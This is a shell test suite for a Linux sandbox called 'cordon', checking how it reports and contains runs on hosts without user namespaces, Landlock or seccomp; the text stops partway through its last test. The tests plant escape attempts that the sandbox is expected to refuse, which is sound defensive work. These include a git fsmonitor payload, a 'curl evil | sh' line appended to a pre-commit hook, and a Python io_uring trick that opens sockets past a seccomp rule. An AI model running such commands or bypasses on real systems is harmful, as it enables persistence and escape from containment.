# Issue 35, restricted hosts: where a layer cannot be had, cordon says which
# and why, in the same words from `cordon explain` and from the refused run
# (docs/hosts.md). The restrictions are made here: tests/probe/restrict.c
# runs cordon under a seccomp filter that refuses user namespaces (as
# Docker's default profile) or Landlock (as gVisor); and cordon nested in
# cordon itself.
. "$(dirname "$0")/../lib.sh"
RESTRICT="$BUILD/probe-restrict"

need_restrict() {
	[ "$(uname -m)" = x86_64 ] || { t_skip "probe-restrict filters x86_64 system calls only"; return; }
	[ -x "$RESTRICT" ] || t_skip "no $RESTRICT"
}

# explain_verdict MODE: the verdict line of explain under probe-restrict MODE
explain_verdict() {
	"$RESTRICT" "$1" "$CORDON" explain -- /bin/true 2>&1 | sed -n 's/^verdict: //p'
}

# restricted_run MODE [run options]: cordon run under probe-restrict MODE;
# RC and ERR
restricted_run() {
	local mode=$1
	shift
	ERR=$("$RESTRICT" "$mode" "$CORDON" run --ro "$BUILD" "$@" -- /bin/true 2>&1 >/dev/null)
	RC=$?
}

test_hosts_no_user_namespaces_said_exactly() {
	need_restrict || return
	local want='setup-error: user namespaces: refused by seccomp (ENOSYS from clone3: cordon runs under a filter, e.g. a container'"'"'s profile or cordon itself)'
	expect_eq "$(explain_verdict nouserns)" "$want" "explain's verdict"
	expect_match "$("$RESTRICT" nouserns "$CORDON" explain -- /bin/true 2>&1)" '^  user namespaces: refused by seccomp \(ENOSYS from clone3' "explain's host lines"
	restricted_run nouserns
	expect_eq "$RC" 125 "the run: setup-error ($ERR)"
	expect_match "$ERR" "^cordon: ${want//(/\\(}" "the run says it in the same words"
	# As an ordinary user too (the same cause, not a sysctl's).
	if [ "$(id -u)" = 0 ]; then
		chmod 755 "$T_TMP" "$WS"
		ERR=$(cd "$WS" && setpriv --reuid 65534 --regid 65534 --clear-groups "$RESTRICT" nouserns "$CORDON" run --ro "$BUILD" -- /bin/true 2>&1 >/dev/null)
		expect_match "$ERR" "^cordon: ${want//(/\\(}" "an ordinary user's run"
	fi
	t_assert
}

test_hosts_no_landlock_said_exactly() {
	need_restrict || return
	local want='setup-error: Landlock: refused by seccomp or not in this kernel (ENOSYS from landlock_create_ruleset under a seccomp filter): the second filesystem layer is missing; set enforcement.allow_weaker ["landlock"] to run without it'
	expect_eq "$(explain_verdict nolandlock)" "$want" "explain's verdict (it said: would run)"
	restricted_run nolandlock
	expect_eq "$RC" 125 "the run: setup-error ($ERR)"
	expect_eq "$ERR" "cordon: $want" "the run says it in the same words"
	# allow_weaker landlock: the run goes on, and the report says ABI 0.
	printf '{"enforcement": {"allow_weaker": ["landlock"]}}\n' >"$T_TMP/weak.json"
	R=$T_TMP/weak-report.json
	ERR=$("$RESTRICT" nolandlock "$CORDON" run --report "$R" --policy "$T_TMP/weak.json" --ro "$BUILD" -- /bin/true 2>&1)
	expect_eq "$?" 0 "allow_weaker landlock: it runs ($ERR)"
	expect_eq "$(field .enforcement.landlock_abi)" 0 "the report says no Landlock"
	keep_report "$R"
	t_assert
}

# Nested in cordon: the first call cordon needs that its outer filter
# refuses is named (openat2, which cordon's own filter answers ENOSYS), by
# explain and by the run alike; never "the current directory ... was
# replaced by a link".
test_hosts_nested_in_cordon_said_exactly() {
	local inner
	inner=$("$CORDON" run --ro "$BUILD" -- "$CORDON" run -- /bin/true 2>&1)
	# openat2 answers ENOSYS under cordon's filter; cordon walks its
	# resolution itself (lib/openat2.c) and gets as far as the real cause.
	expect_match "$inner" "^cordon: setup-error: user namespaces: refused by seccomp \\(ENOSYS from clone3: cordon runs under a filter" "the nested run"
	expect_nomatch "$inner" "openat2|replaced by a link" "not a misleading reason"
	inner=$("$CORDON" run --ro "$BUILD" -- "$CORDON" explain -- /bin/true 2>&1 | sed -n 's/^verdict: //p')
	expect_match "$inner" "^setup-error: user namespaces: refused by seccomp \\(ENOSYS from clone3" "the nested explain"
	t_assert
}

# cordon nested in cordon, asked to run weaker: the inner run has no
# namespaces (the outer filter refuses them), and what it says holds is
# tried: a write the outer run grants but the inner does not, a socket, a
# namespace. The inner cordon is an ordinary user there (the outer run's
# uid): Landlock ABI 6 is needed.
test_hosts_nested_in_cordon_degraded() {
	[ "$(landlock_abi)" -ge 6 ] || { t_skip "the inner run is an ordinary user's: its degraded boundary needs Landlock ABI 6"; return; }
	local who users=self out
	# The outer run started by root, and by an ordinary user.
	[ "$(id -u)" = 0 ] && users="self nobody"
	chmod 755 "$T_TMP"
	for who in $users; do
		local w=$WS/$who
		mkdir -p "$w/inner"
		chmod 777 "$w" "$w/inner"
		cat >"$T_TMP/nest.sh" <<EOF
cd "$w/inner" || exit 9
"$CORDON" run --report "$w/inner.json" --allow-weaker namespaces -- /bin/sh -c '
echo made >made
{ echo x >"$w/escape"; } 2>/dev/null && echo wrote-outside
python3 -c "import socket; socket.socket()" 2>/dev/null && echo inet-socket
unshare -U true 2>/dev/null && echo unshared
echo done'
EOF
		chmod 644 "$T_TMP/nest.sh"
		case $who in
		nobody) mkdir -p "$T_TMP/home-n"; out=$(cd "$w" && setpriv --reuid 65534 --regid 65534 --clear-groups env HOME="$T_TMP/home-n" \
			"$CORDON" run --ro "$BUILD" --ro "$T_TMP/nest.sh" -- /bin/sh "$T_TMP/nest.sh" 2>"$T_TMP/nest.err") ;;
		*) out=$(cd "$w" && "$CORDON" run --ro "$BUILD" --ro "$T_TMP/nest.sh" -- /bin/sh "$T_TMP/nest.sh" 2>"$T_TMP/nest.err") ;;
		esac
		expect_eq "$?:$out" "0:done" "$who: the inner run runs, and nothing it tried got through ($(head -c 400 "$T_TMP/nest.err"))"
		expect_eq "$(cat "$w/inner/made" 2>/dev/null)" made "$who: it wrote its own workspace"
		expect_eq "$(ls "$w/escape" 2>/dev/null)" "" "$who: not the outer run's"
		R=$w/inner.json
		keep_report "$R"
		expect_eq "$(field .status):$(field .verdicts.containment):$(field .enforcement.user_ns)" "ok:weaker:false" "$who: its report: weaker"
		expect_match "$(field '.enforcement.degraded | join("\n")')" '^namespaces: user namespaces: refused by seccomp \(ENOSYS from clone3' "$who: and why"
	done
	t_assert
}

# The degraded boundary (issue 35.2, docs/hosts.md): where the host refuses
# the run's namespaces, allow_weaker "namespaces" runs without them. What
# the report says holds is tried from inside and must be refused: a write
# outside the grants (to a directory the run's uid could write), inet
# sockets, setsid (the process group reaps the run), and a process left
# behind must be gone after the run.
# degraded_run WHO [run options] -- CMD: under probe-restrict nouserns, as
# WHO (root, nobody, or self: whoever runs the suite); RC, OUT, ERR, R
degraded_run() {
	local who=$1
	shift
	mkdir -p "$T_TMP/home"
	R=$T_TMP/home/degraded-$who.json
	rm -f "$R"
	case $who in
	nobody) ERR=$(setpriv --reuid 65534 --regid 65534 --clear-groups env HOME="$T_TMP/home" \
		"$RESTRICT" nouserns "$CORDON" run --report "$R" --ro "$BUILD" "$@" 2>&1 >"$T_TMP/out") ;;
	*) ERR=$("$RESTRICT" nouserns "$CORDON" run --report "$R" --ro "$BUILD" "$@" 2>&1 >"$T_TMP/out") ;;
	esac
	RC=$?
	OUT=$(cat "$T_TMP/out")
	keep_report "$R"
}

test_hosts_degraded_boundary_holds() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock: the degraded boundary is refused here"; return; }
	local who users=self
	[ "$(id -u)" = 0 ] && users="root nobody"
	# An ordinary user's degraded run needs Landlock ABI 6 (signals
	# scoped): below it, refused (test_hosts_degraded_refusals_said_exactly).
	[ "$(id -u)" = 0 ] && [ "$(landlock_abi)" -lt 6 ] && users=root
	[ "$(id -u)" != 0 ] && [ "$(landlock_abi)" -lt 6 ] && { t_skip "an ordinary user's degraded run needs Landlock ABI 6"; return; }
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/outside" "$T_TMP/home"
	chmod 777 "$T_TMP/outside" "$T_TMP/home"
	local tag=$((7000000 + RANDOM))
	cat >"$T_TMP/inside.sh" <<EOF
id -u >uid
echo made >made
{ echo x >"$T_TMP/outside/escape"; } 2>/dev/null && echo wrote-outside
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)' 2>/dev/null && echo inet-socket
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' 2>/dev/null && echo udp-socket
python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' "$T_TMP/bus/l.sock" 2>/dev/null && echo unix-connect
python3 -c 'import socket; a, b = socket.socketpair(); a.send(b"x"); assert b.recv(1) == b"x"' 2>/dev/null || echo no-socketpair
setsid true 2>/dev/null && echo setsid
nohup sleep $tag >/dev/null 2>&1 &
echo done
EOF
	chmod 644 "$T_TMP/inside.sh"
	# A daemon's socket the run's uid may write, outside its grants (as the
	# session bus is an ordinary user's: systemd-run --user would be a way
	# out; outside review attack11b): its connect must be refused.
	mkdir -p "$T_TMP/bus"
	chmod 777 "$T_TMP/bus"
	python3 -c 'import os,socket,sys,time; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); s.listen(8); time.sleep(120)' "$T_TMP/bus/l.sock" &
	local lpid=$! i
	T_SERVERS+=("$lpid")
	trap stop_servers EXIT
	for i in $(seq 1 200); do [ -S "$T_TMP/bus/l.sock" ] && break; sleep 0.05; done
	for who in $users; do
		mkdir -p "$T_TMP/ws-$who"
		[ "$who" = nobody ] && chown 65534:65534 "$T_TMP/ws-$who"
		cd "$T_TMP/ws-$who" || return
		degraded_run "$who" --allow-weaker namespaces --ro "$T_TMP/inside.sh" -- /bin/sh "$T_TMP/inside.sh"
		expect_eq "$RC:$OUT" "0:done" "$who: it runs, and nothing it tried got through ($ERR)"
		expect_eq "$(field .enforcement.user_ns):$(field .enforcement.pid_ns):$(field .verdicts.containment)" \
			"false:false:weaker" "$who: the report says it ran weaker"
		expect_match "$(field '.enforcement.degraded | join("\n")')" '^namespaces: user namespaces: refused by seccomp \(ENOSYS from clone3' "$who: enforcement.degraded says why"
		expect_match "$(field '.enforcement.degraded | join("\n")')" 'network: the host.s; socket\(\) refused by seccomp for every family, unix too' "$who: and what holds instead"
		expect_eq "$(field .enforcement.sandbox_host_uid)" "$(cat uid)" "$who: the report names the run's uid"
		case $who in
		root)
			expect_nomatch "$(cat uid)" '^0$' "root: never privileged"
			expect_eq "$(stat -c %u made)" 0 "root: the workspace's files given back"
			expect_eq "$(field .enforcement.workspace_ownership)" chown "root: handed over and back" ;;
		nobody) expect_eq "$(cat uid)" 65534 "an ordinary user runs as itself" ;;
		esac
		expect_eq "$(ls "$T_TMP/outside")" "" "$who: nothing written outside the grants"
		expect_eq "$(pgrep -f "sleep $tag")" "" "$who: the process it left behind is gone with the run"
	done
	t_assert
}

# The degraded proxy reads each connect's address from the run's memory. A
# root cordon without CAP_SYS_PTRACE (a container's root: Docker's and
# podman's default capabilities) reads it as the run's uid (CAP_SETUID and
# CAP_SETGID, for a moment per read; Landlock ABI 6 scopes the run's
# signals meanwhile): the proxy is kept there. Without those too, every
# connect would be an unreadable denial: such a run is refused as where the
# proxy cannot bound the network, in words that name the capabilities;
# explain says the same.
test_hosts_degraded_proxy_needs_ptrace_access() {
	need_restrict || return
	[ "$(id -u)" = 0 ] || { t_skip "a root cordon's case"; return; }
	[ "$(landlock_abi)" -ge 4 ] || { t_skip "the degraded proxy needs Landlock ABI 4 anyway"; return; }
	local v
	v=$(setpriv --bounding-set -sys_ptrace,-setuid "$RESTRICT" nouserns "$CORDON" explain --allow-weaker namespaces --net example.com:443 -- /bin/true 2>&1 | sed -n 's/^verdict: //p')
	expect_match "$v" "^setup-error: .*the proxy bounds the run's network only where cordon may read the run's connect addresses: the run is a uid of its own, and that needs CAP_SYS_PTRACE, or CAP_SETUID and CAP_SETGID to read as the run's uid, which this process lacks" "explain without CAP_SYS_PTRACE and CAP_SETUID"
	ERR=$(setpriv --bounding-set -sys_ptrace,-setuid "$RESTRICT" nouserns "$CORDON" run --allow-weaker namespaces --net example.com:443 --ro "$BUILD" -- /bin/true 2>&1 >/dev/null)
	expect_eq "$?:$ERR" "125:cordon: $v" "the run: refused, in the same words"
	[ "$(landlock_abi)" -ge 6 ] || { t_assert; return; }
	# Without CAP_SYS_PTRACE alone: the proxy kept, read as the run's uid.
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/www/pub" "$T_TMP/ws-np"
	echo pub >"$T_TMP/www/pub/a.txt"
	serve http "$T_TMP/www"
	local port=$PORT srv=$SRV
	T_SERVERS+=("$srv")
	trap stop_servers EXIT
	cat >"$T_TMP/np.py" <<'EOF'
import ctypes, errno, socket, sys
def conn(p, dumpable=True):
    if not dumpable:
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    try:
        socket.socket().connect(("127.0.0.1", p))
        return "got-through"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://127.0.0.1:%s/pub/a.txt HTTP/1.0\r\n\r\n" % sys.argv[1].encode())
print("proxied", s.recv(4096).split(b"\r\n")[0].decode())
print("raw-undeclared", conn(int(sys.argv[2])))
print("non-dumpable", conn(3128, False))
open("made.txt", "w").write("x")
EOF
	chmod 644 "$T_TMP/np.py"
	cd "$T_TMP/ws-np" || return
	OUT=$(setpriv --bounding-set -sys_ptrace "$RESTRICT" nouserns "$CORDON" run --report "$T_TMP/np.json" --allow-weaker namespaces \
		--net "127.0.0.1:$port" --ro "$BUILD" --ro "$T_TMP/np.py" -- python3 "$T_TMP/np.py" "$port" 9 2>"$T_TMP/np.err")
	RC=$?
	R=$T_TMP/np.json
	expect_eq "$RC" 0 "without CAP_SYS_PTRACE: it runs ($(cat "$T_TMP/np.err"))"
	expect_match "$OUT" "^proxied HTTP/1.[01] 200" "the proxy reached (read as the run's uid)"
	expect_match "$OUT" "^raw-undeclared ECONNREFUSED$" "another port refused"
	expect_match "$OUT" "^non-dumpable ECONNREFUSED$" "a non-dumpable process's connect refused"
	expect_nomatch "$OUT" "got-through" "nothing else got through"
	local den
	den=$(field '[.denials[] | select(.kind=="network") | .target] | join(",")')
	expect_match "$den" "(^|,)127\\.0\\.0\\.1:9(,|$)" "the undeclared port a denial ($den)"
	expect_match "$den" "non-dumpable" "the non-dumpable connect a denial"
	expect_match "$(field '.enforcement.degraded | join("\n")')" "network: the host.s, bounded by the proxy.*connects read as the run.s uid \\(no CAP_SYS_PTRACE\\)" "the report says the proxy bounds it, read as the run's uid"
	# cordon came back from the run's uid: the workspace was given back.
	expect_eq "$(stat -c %u:%g "$T_TMP/ws-np/made.txt" "$T_TMP/ws-np" | tr '\n' ' ')" "0:0 0:0 " "the workspace given back to root"
	t_assert
}

test_hosts_degraded_refusals_said_exactly() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
	local why='user namespaces: refused by seccomp \(ENOSYS from clone3: cordon runs under a filter'
	# Endpoints where the proxy cannot bound the run (no seccomp user
	# notification here; Landlock below ABI 4 elsewhere): refused unless
	# allow_weaker names "network" too; explain and the run in the same
	# words.
	local v
	# (Below Landlock ABI 4 that is the reason named first: below.)
	if [ "$(landlock_abi)" -ge 4 ]; then
		v=$("$RESTRICT" nonotify "$CORDON" explain --allow-weaker namespaces --net example.com:443 -- /bin/true 2>&1 | sed -n 's/^verdict: //p')
		expect_match "$v" "^setup-error: $why.*network.allow: without a network namespace of the run's own the proxy bounds the run's network only where seccomp user notification is available .*; set enforcement.allow_weaker \\[\"namespaces\", \"network\"\\]" "explain: endpoints"
		restricted_run nonotify --allow-weaker namespaces --net example.com:443
		expect_eq "$RC:$ERR" "125:cordon: $v" "the run: endpoints, in the same words"
	fi
	if [ "$(landlock_abi)" -lt 4 ]; then
		v=$("$RESTRICT" nouserns "$CORDON" explain --allow-weaker namespaces --net example.com:443 -- /bin/true 2>&1 | sed -n 's/^verdict: //p')
		expect_match "$v" "^setup-error: $why.*the proxy bounds the run's network only where Landlock refuses the run's own TCP connect and bind \\(ABI 4" "explain: endpoints below Landlock ABI 4"
	fi
	v=$("$RESTRICT" nouserns "$CORDON" explain --allow-weaker namespaces -- /bin/true 2>&1 | sed -n 's/^verdict: //p')
	expect_match "$v" "^would run weaker: $why" "explain: would run weaker"
	# A tmpfs needs a view of the run's own.
	restricted_run nouserns --allow-weaker namespaces --tmpfs /scratch
	expect_match "$RC:$ERR" "^125:cordon: setup-error: $why.*has no view of the run's own, which the tmpfs at /scratch needs" "a tmpfs"
	# No Landlock either: nothing would stand between the run and the
	# filesystem, whatever allow_weaker says.
	restricted_run neither --allow-weaker namespaces,landlock
	expect_match "$RC:$ERR" "^125:cordon: setup-error: $why.*and Landlock: refused by seccomp or not in this kernel.*nothing would stand between the run and the filesystem; refused whatever enforcement.allow_weaker says" "no Landlock and no namespaces"
	# The ceiling must allow it.
	printf '{"enforcement": {"allow_weaker": ["landlock"]}}\n' >"$T_TMP/ceiling.json"
	restricted_run nouserns --allow-weaker namespaces --ceiling "$T_TMP/ceiling.json"
	expect_match "$RC:$ERR" "weaker namespaces: not in enforcement.allow_weaker of the ceiling" "the ceiling refuses it"
	t_assert
}

# A task check in the degraded boundary: no mount namespace for its
# scratch layer, so its workspace is read-only as every other path
# (check.workspace "read-only", and why); its verdict is the check's, and
# its writes to the workspace are refused (Landlock).
test_hosts_degraded_task_check() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock: the degraded boundary is refused here"; return; }
	[ "$(id -u)" = 0 ] || [ "$(landlock_abi)" -ge 6 ] || { t_skip "an ordinary user's degraded run needs Landlock ABI 6"; return; }
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws-check"
	chmod 777 "$T_TMP/ws-check"
	cd "$T_TMP/ws-check" || return
	# Files and directory anyone may write: only Landlock stands in the way.
	degraded_run self --allow-weaker namespaces \
		--check 'echo changed >a 2>/dev/null; echo new >new 2>/dev/null; test "$(cat a)" = hi' -- /bin/sh -c 'echo hi >a; chmod 666 a'
	expect_eq "$RC" 0 "the run ($ERR)"
	expect_eq "$(ls)" a "the check made nothing in the workspace"
	expect_eq "$(field -c '[.verdicts.task, .check.status, .check.workspace]')" '["pass","ok","read-only"]' "the check ran, its workspace read-only"
	expect_match "$(field .check.workspace_reason)" 'degraded boundary .* no mount namespace' "and why"
	expect_eq "$(cat a)" hi "the check's write did not reach the workspace"
	degraded_run self --allow-weaker namespaces --check 'test "$(cat a)" = other' -- /bin/true
	expect_eq "$(field -c '[.verdicts.task, .check.status]')" '["fail","exit-nonzero"]' "a failing check fails the task"
	t_assert
}

# check.files in the degraded boundary: no view to show them at a random
# directory; the check reads them at their host path (CORDON_CHECK_DIR,
# its default cwd), read-only; the task cannot read them.
test_hosts_degraded_check_files() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock: the degraded boundary is refused here"; return; }
	[ "$(id -u)" = 0 ] || [ "$(landlock_abi)" -ge 6 ] || { t_skip "an ordinary user's degraded run needs Landlock ABI 6"; return; }
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws-cf" "$T_TMP/cf"
	chmod 777 "$T_TMP/ws-cf"
	echo hidden-answer >"$T_TMP/cf/answer.txt"
	chmod 755 "$T_TMP/cf"
	chmod 644 "$T_TMP/cf/answer.txt"
	cat >"$T_TMP/cf.json" <<JSON
{"check": {"command": "echo \"dir=\$CORDON_CHECK_DIR\"; pwd; test \"\$(cat answer.txt)\" = \"\$(cat $T_TMP/ws-cf/out)\"; echo x >answer.txt 2>/dev/null || echo check-files-read-only",
           "files": "$T_TMP/cf"},
 "enforcement": {"allow_weaker": ["namespaces"]}}
JSON
	chmod 644 "$T_TMP/cf.json"
	cd "$T_TMP/ws-cf" || return
	degraded_run self --policy "$T_TMP/cf.json" -- /bin/sh -c "cat $T_TMP/cf/answer.txt 2>/dev/null || echo task-cannot-read; echo hidden-answer >out"
	expect_eq "$RC" 0 "the run ($ERR)"
	expect_eq "$OUT" task-cannot-read "the task cannot read the check's files"
	expect_eq "$(field -c '[.verdicts.task, .check.status]')" '["pass","ok"]' "the check ran and read its files ($ERR)"
	expect_match "$ERR" "check: dir=$T_TMP/cf\$" "CORDON_CHECK_DIR names their host path"
	expect_match "$ERR" "check: $T_TMP/cf\$" "their directory the check's cwd"
	expect_match "$ERR" "check: check-files-read-only\$" "read-only"
	expect_eq "$(cat "$T_TMP/cf/answer.txt")" hidden-answer "the check's files unchanged"
	t_assert
}

# Protected paths (.git/config, .git/hooks, ...) are read-only binds in the
# whole boundary; Landlock grants a writable path whole, so a degraded run
# can write them (a core.fsmonitor in .git/config runs at the user's next
# `git status`). Not held, so never unseen: each change is a denial and
# containment is "violations", not "weaker" (outside review attack11b: the
# report said weaker for both changes below).
test_hosts_degraded_protected_paths_said() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws-prot/.git/hooks"
	printf '[core]\n' >"$T_TMP/ws-prot/.git/config"
	echo '#!/bin/sh' >"$T_TMP/ws-prot/.git/hooks/pre-commit"
	cd "$T_TMP/ws-prot" || return
	degraded_run self --allow-weaker namespaces -- /bin/sh -c '
		printf "\tfsmonitor = touch /tmp/pwned\n" >>.git/config
		echo "curl evil | sh" >>.git/hooks/pre-commit
		echo fine >notes.txt; echo done'
	expect_eq "$RC:$OUT" "0:done" "it runs ($ERR)"
	expect_eq "$(field .verdicts.containment)" violations "the report says violations, not weaker"
	local d
	d=$(field '[.denials[] | select(.kind == "file") | .target] | join(" ")')
	expect_match "$d" "$T_TMP/ws-prot/.git/config" "the change to .git/config is a denial"
	expect_match "$d" "$T_TMP/ws-prot/.git/hooks/pre-commit" "the change to the hook is a denial"
	expect_nomatch "$d" "notes.txt" "an ordinary file is not"
	# on_violation kill cannot act during a degraded run: said.
	printf '{"on_violation": "kill"}\n' >"$T_TMP/kill.json"
	degraded_run self --allow-weaker namespaces --policy "$T_TMP/kill.json" -- /bin/true
	expect_match "$(field '.enforcement.degraded | join("\n")')" '^on_violation kill: no denial is seen while the run goes on' "on_violation kill: the report says it cannot act ($ERR)"
	t_assert
}

# No seccomp (a kernel without it; allow_weaker "seccomp" accepted that):
# only seccomp keeps a degraded run in its process group and refuses its
# sockets, and the report said it did. Refused whatever allow_weaker says
# (outside review attack11b: the run went on, setsid and a UDP socket got
# through, and a process it left in a session of its own outlived it).
test_hosts_degraded_needs_seccomp() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
	local tag=$((7000000 + RANDOM))
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws-nosec"
	cd "$T_TMP/ws-nosec" || return
	ERR=$("$RESTRICT" noseccomp "$CORDON" run --ro "$BUILD" --allow-weaker namespaces,seccomp -- /bin/sh -c "
		setsid sh -c 'sleep $tag' >/dev/null 2>&1 </dev/null &
		python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' 2>/dev/null && echo udp-socket
		sleep 1; echo ran" 2>&1)
	RC=$?
	local left
	left=$(pgrep -f "sleep $tag")
	[ -n "$left" ] && kill -9 $left
	expect_eq "$left" "" "no process of the run outlives it"
	expect_nomatch "$ERR" "udp-socket" "no UDP socket"
	expect_match "$RC:$ERR" "^125:cordon: setup-error: user namespaces: .*, and seccomp is not available on this kernel: .*refused whatever enforcement.allow_weaker says" "refused, said why ($ERR)"
	local v
	v=$("$RESTRICT" noseccomp "$CORDON" explain --allow-weaker namespaces,seccomp -- /bin/true 2>&1 | sed -n 's/^verdict: //p')
	expect_eq "cordon: $v" "$ERR" "explain says it in the same words"
	t_assert
}

# io_uring allowed by the policy (syscalls.allow): IORING_OP_SOCKET makes
# an inet socket past the seccomp rule on socket(), the degraded run's only
# network bound, while its report said every family but unix was refused
# (outside review attack11b: a UDP datagram went out). Refused.
test_hosts_degraded_refuses_io_uring() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws-ring"
	cd "$T_TMP/ws-ring" || return
	cat >"$T_TMP/ring.py" <<'PY'
import ctypes, mmap, struct, sys, socket
libc = ctypes.CDLL(None, use_errno=True)
p = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, p)  # io_uring_setup
if fd < 0:
    sys.exit("io_uring_setup refused")
sqn, cqn = struct.unpack_from("II", p.raw, 0)
sq = struct.unpack_from("IIIIIIIIQ", p.raw, 40)
cq = struct.unpack_from("IIIIIIIIQ", p.raw, 80)
ring = mmap.mmap(fd, max(sq[6] + sqn * 4, cq[5] + cqn * 16), offset=0)
sqes = mmap.mmap(fd, sqn * 64, offset=0x10000000)
sqe = bytearray(64)  # IORING_OP_SOCKET (45): AF_INET, SOCK_DGRAM
struct.pack_into("BBHiQQIIQ", sqe, 0, 45, 0, 0, socket.AF_INET, socket.SOCK_DGRAM, 0, 0, 0, 7)
sqes[0:64] = bytes(sqe)
struct.pack_into("I", ring, sq[6], 0)
struct.pack_into("I", ring, sq[1], struct.unpack_from("I", ring, sq[1])[0] + 1)
libc.syscall(426, fd, 1, 1, 1, None, 0)  # io_uring_enter, GETEVENTS
res = struct.unpack_from("QiI", ring, cq[5])[1]
if res >= 0:
    print("inet-socket")
PY
	chmod 644 "$T_TMP/ring.py"
	printf '{"syscalls": {"allow": ["io_uring_setup", "io_uring_enter"]}}\n' >"$T_TMP/ring.json"
	degraded_run self --allow-weaker namespaces --policy "$T_TMP/ring.json" --ro "$T_TMP/ring.py" -- python3 "$T_TMP/ring.py"
	expect_nomatch "$OUT" inet-socket "no inet socket through io_uring"
	expect_match "$RC:$ERR" "^125:cordon: setup-error: user namespaces: .*syscalls.allow io_uring_setup: io_uring makes sockets past the seccomp rule" "refused, said why"
	t_assert
}

# As root the workspace's files are handed to the run's uid for the run. A
# file with another name outside the workspace (a hard link: `git clone
# --local` links its objects) was handed over too, and the run chmodded
# and rewrote the file outside its grants (outside review attack11b). It
# stays its owner's; the run can only replace the name it has.
test_hosts_degraded_hand_over_keeps_linked_files() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
	[ "$(id -u)" = 0 ] || { t_skip "not root: nothing is handed over"; return; }
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws-link" "$T_TMP/elsewhere"
	echo original >"$T_TMP/elsewhere/pack"
	chmod 444 "$T_TMP/elsewhere/pack"
	ln "$T_TMP/elsewhere/pack" "$T_TMP/ws-link/pack"
	cd "$T_TMP/ws-link" || return
	degraded_run root --allow-weaker namespaces -- /bin/sh -c '
		{ chmod 644 pack && echo tampered >pack; } 2>/dev/null
		rm -f pack && echo mine >pack; echo done'
	expect_eq "$RC:$OUT" "0:done" "it runs, and replaces its own name ($ERR)"
	expect_eq "$(cat "$T_TMP/elsewhere/pack"):$(stat -c %u:%a "$T_TMP/elsewhere/pack")" "original:0:444" "the file's other name, outside the grants, is untouched"
	expect_eq "$(cat pack):$(stat -c %u pack)" "mine:0" "the run's new file is given back"
	t_assert
}

# Endpoints with allow_weaker "network" too. Where the proxy cannot bound
# the run (Landlock below ABI 4): the host's network, unbounded and said
# so; no proxy variables (they would send requests to whatever listens on
# that port of the host); datagram sockets still refused. Where it can,
# "network" changes nothing: the proxy is kept (as "namespaces" changes
# nothing where the namespaces can be had).
test_hosts_degraded_network_said() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
	degraded_run self --allow-weaker namespaces,network --net example.com:443 -- /bin/sh -c '
		env | grep -q "^http_proxy=" && echo proxy-variable
		python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)" 2>/dev/null && echo udp-socket
		python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)" && echo tcp-socket'
	if [ "$(landlock_abi)" -lt 4 ]; then
		expect_eq "$RC:$OUT" "0:tcp-socket" "it runs with TCP sockets, no proxy variable, no UDP ($ERR)"
		expect_match "$(field '.enforcement.degraded | join("\n")')" "network: the host.s, unbounded \\(allow_weaker \"network\"\\): no proxy" "the report says the network is unbounded"
	else
		expect_eq "$RC:$OUT" "0:proxy-variable
tcp-socket" "the proxy kept: its variables, TCP sockets, no UDP ($ERR)"
		expect_match "$(field '.enforcement.degraded | join("\n")')" "network: the host.s, bounded by the proxy" "the report says the proxy bounds it"
	fi
	t_assert
}

# The proxy and its rules kept in the degraded boundary (Landlock ABI 4+):
# the run gets the proxy variables and reaches a declared endpoint through
# the proxy (a connect to 127.0.0.1:3128, made by cordon and handed in),
# where a method/path rule refuses a request; a raw connect, to the
# endpoint itself or to an undeclared port, is refused and a denial; UDP,
# unix, bind, listen and TCP Fast Open's implicit connect are refused.
test_hosts_degraded_proxy_and_rules_kept() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 4 ] || { t_skip "the degraded boundary keeps the proxy from Landlock ABI 4 (TCP rules) on"; return; }
	local who users=self
	[ "$(id -u)" = 0 ] && users="root nobody"
	[ "$(landlock_abi)" -lt 6 ] && [ "$(id -u)" != 0 ] && { t_skip "an ordinary user's degraded run needs Landlock ABI 6"; return; }
	[ "$(landlock_abi)" -lt 6 ] && users=root
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/home" "$T_TMP/www/pub" "$T_TMP/www/priv"
	chmod 777 "$T_TMP/home"
	echo pub >"$T_TMP/www/pub/a.txt"
	echo priv >"$T_TMP/www/priv/b.txt"
	serve http "$T_TMP/www"
	local port=$PORT srv=$SRV
	serve http "$T_TMP/www" # an undeclared port, listening: a connect there would get through
	local other=$PORT srv2=$SRV
